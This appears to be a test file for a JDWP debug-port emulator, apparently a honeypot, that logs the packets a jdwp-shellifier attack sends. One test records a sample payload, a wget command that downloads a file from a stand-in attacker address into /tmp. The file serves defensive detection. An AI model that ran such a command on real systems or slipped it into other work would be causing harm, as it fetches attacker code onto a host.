// The JDWP session on the handshake and command packets a debugger or jdwp-shellifier sends.

import { readFileSync } from 'node:fs';

import { describe, expect, it } from 'vitest';

import { startSession } from '../test-session.js';
import { jdwp } from './index.js';
import { encodeString, HEADER_BYTES, MAX_PACKET_BYTES } from './parse.js';

const fixture = (name: string) => readFileSync(new URL(`fixtures/${name}`, import.meta.url));

function command(id: number, set: number, cmd: number, data: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(HEADER_BYTES);
  head.writeUInt32BE(HEADER_BYTES + data.length, 0);
  head.writeUInt32BE(id, 4);
  head[9] = set;
  head[10] = cmd;
  return Buffer.concat([head, data]);
}

describe('jdwp session', () => {
  it('echoes the 14-byte handshake exactly, as a JVM does', () => {
    const { ctx, session } = startSession(jdwp);
    session.data(Buffer.from('JDWP-'));
    expect(ctx.sent).toEqual([]);
    session.data(Buffer.from('Handshake'));
    expect(ctx.text()).toBe('JDWP-Handshake');
  });

  it('answers Version, IDSizes and CapabilitiesNew byte for byte as OpenJDK 17.0.15 did', () => {
    const { ctx, session } = startSession(jdwp);
    session.data(Buffer.concat([Buffer.from('JDWP-Handshake'), command(1, 1, 1),
      command(2, 1, 7), command(3, 1, 17)]));
    expect(Buffer.concat(ctx.sent)).toEqual(Buffer.concat([Buffer.from('JDWP-Handshake'),
      fixture('openjdk17-version-reply.bin'), fixture('openjdk17-idsizes-reply.bin'),
      fixture('openjdk17-capabilitiesnew-reply.bin')]));
    expect(ctx.commands).toEqual(['VirtualMachine.Version', 'VirtualMachine.IDSizes',
      'VirtualMachine.CapabilitiesNew']);
  });

  it('records the text of CreateString, which shellifier hands to Runtime.exec', () => {
    const { ctx, session } = startSession(jdwp);
    session.data(Buffer.concat([Buffer.from('JDWP-Handshake'),
      command(9, 1, 11, encodeString('wget http://198.51.100.5/j -O /tmp/j'))]));
    expect(ctx.commands).toEqual(['VirtualMachine.CreateString ' +
      '"wget http://198.51.100.5/j -O /tmp/j"']);
  });

  it('finds java.lang.Runtime by signature, as jdwp-shellifier looks it up', () => {
    const { ctx, session } = startSession(jdwp);
    session.data(Buffer.concat([Buffer.from('JDWP-Handshake'),
      command(5, 1, 2, encodeString('Ljava/lang/Runtime;')),
      command(6, 1, 2, encodeString('Lcom/example/Nope;'))]));
    const out = Buffer.concat(ctx.sent).subarray(14).toString('hex');
    expect(out).toBe('0000001c' + '00000005' + '80' + '0000' + '00000001' + '01' +
      '0000000000000105' + '00000007' + '0000000f' + '00000006' + '80' + '0000' + '00000000');
  });

  it('refuses a short InvokeMethod with INTERNAL, as the JVM did, and unknown sets', () => {
    const { ctx, session } = startSession(jdwp);
    session.data(Buffer.concat([Buffer.from('JDWP-Handshake'), command(10, 3, 3),
      command(11, 77, 1)]));
    expect(Buffer.concat(ctx.sent).subarray(14).toString('hex')).toBe(
      '0000000b' + '0000000a' + '80' + '0071' + '0000000b' + '0000000b' + '80' + '0063');
    expect(ctx.commands).toEqual(['ClassType.InvokeMethod', 'CommandSet77.Command1']);
  });

  it('closes on a wrong handshake and on a packet length past the cap', () => {
    const wrong = startSession(jdwp);
    wrong.session.data(Buffer.from('JDWP-Handshakf'));
    expect(wrong.ctx.reasons).toEqual(['bad_handshake']);
    expect(wrong.ctx.ended).toBe(true);
    const huge = startSession(jdwp);
    const head = command(1, 1, 1);
    head.writeUInt32BE(MAX_PACKET_BYTES + 1, 0);
    huge.session.data(Buffer.concat([Buffer.from('JDWP-Handshake'), head]));
    expect(huge.ctx.reasons).toEqual(['packet_too_large']);
  });
});
